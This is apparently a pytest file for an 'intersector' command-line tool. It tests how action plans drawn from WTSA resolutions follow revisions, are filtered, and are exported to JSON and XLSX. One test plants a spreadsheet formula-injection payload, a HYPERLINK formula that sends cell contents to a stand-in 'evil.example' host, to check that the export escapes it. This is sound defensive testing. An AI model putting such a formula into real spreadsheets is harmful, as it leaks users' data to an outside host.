"""`intersector actions` and `intersector action` on SQLite and PostgreSQL: the plan follows the
ingested revisions (carried over, superseded), is filtered, and is written as JSON and as an
XLSX in the action-plan layout with no cell a formula."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.revisions import SEED, revised_text

from intersector import cli

TEXTS = Path(__file__).parent / "data" / "texts"


@pytest.fixture
def db(cli_database: str, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("INTERSECTOR_AUTHOR", "tester")
    return cli_database


def _plan(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, dict[str, object]]:
    capsys.readouterr()
    assert cli.run(["actions", "--format", "json", *args]) == 0
    return {a["id"]: a for a in json.loads(capsys.readouterr().out)["actions"]}


def test_the_plan_follows_a_new_revision(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copy(SEED, tmp_path / "res57-2012.txt")
    shutil.copy(TEXTS / "wtsa-res-38-en.txt", tmp_path)
    assert cli.run(["ingest", str(tmp_path)]) == 0
    assert set(_plan(capsys, "--document", "WTSA-RES-57")) == {
        "wtsa-res-57:resolves-1",
        "wtsa-res-57:resolves-2",
    }
    assert cli.run(["action", "wtsa-res-57:resolves-1", "--status", "ongoing", "--owner",
                    "TSB", "--evidence", "document:WTSA-RES-38"]) == 0  # fmt: skip
    revised = tmp_path / "res57-2016.txt"
    revised.write_text(revised_text(), encoding="utf-8")
    assert cli.run(["ingest", str(revised)]) == 0
    plan = _plan(capsys, "--document", "wtsa-res-57")
    kept = plan["wtsa-res-57:resolves-1"]
    assert (kept["revision"], kept["status"], kept["owner"]) == ("hammamet-2016", "ongoing", "TSB")
    assert kept["evidence"] == [{"kind": "document", "ref": "wtsa-res-38"}]
    assert plan["wtsa-res-57:resolves-2"]["status"] == "superseded"
    assert plan["wtsa-res-57:resolves-2:hammamet-2016"]["due"] == "2018-12-31"
    assert set(_plan(capsys, "--status", "superseded")) == {"wtsa-res-57:resolves-2"}
    assert cli.run(["ingest", str(revised)]) == 0  # the same text again changes nothing
    assert _plan(capsys, "--document", "wtsa-res-57") == plan


def test_filters_by_addressee_and_table(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["ingest", str(TEXTS / "wtsa-res-38-en.txt")]) == 0
    assert set(_plan(capsys, "--addressee", "TSB-Director")) == {
        "wtsa-res-38:instructs",
        "wtsa-res-38:encourages",
    }
    assert cli.run(["actions"]) == 0
    assert "not-started 4" in capsys.readouterr().out


def test_xlsx_in_the_action_plan_layout_with_no_formula(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["ingest", str(TEXTS / "wtsa-res-38-en.txt")]) == 0
    owner = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert cli.run(["action", "wtsa-res-38:instructs", "--owner", owner, "--due",
                    "2026-03-31"]) == 0  # fmt: skip
    target = tmp_path / "plan.xlsx"
    assert cli.run(["actions", "--format", "xlsx", "--output", str(target)]) == 0
    sheet = load_workbook(target)["Action plan"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:9] == (
        "No.",
        "Resolution",
        "Revision",
        "Operative clause",
        "Action required",
        "Action by",
        "Lead (owner)",
        "Deadline",
        "Status",
    )
    instructs = next(r for r in rows if r[-1] == "wtsa-res-38:instructs")
    assert instructs[6] == "'" + owner and instructs[5] == "tsb-director"
    assert instructs[7].date().isoformat() == "2026-03-31"
    assert all(not str(c).startswith("=") for r in rows for c in r if c is not None)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["actions", "--status", "finished"], "status"),
        (["actions", "--addressee", "nobody"], "addressee"),
        (["actions", "--format", "pdf"], "--format"),
        (["action", "wtsa-res-38:nothing", "--status", "done"], "action"),
        (["action", "wtsa-res-38:instructs", "--status", "superseded"], "new revision"),
        (["action", "wtsa-res-38:instructs", "--evidence", "liaison:nope"], "evidence"),
        (["action", "wtsa-res-38:instructs", "--evidence", "memo"], "KIND:REF"),
    ],
)
def test_bad_input_exits_2_naming_it(
    db: str, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    assert cli.run(["ingest", str(TEXTS / "wtsa-res-38-en.txt")]) == 0
    assert cli.run(args) == 2
    assert message in capsys.readouterr().err
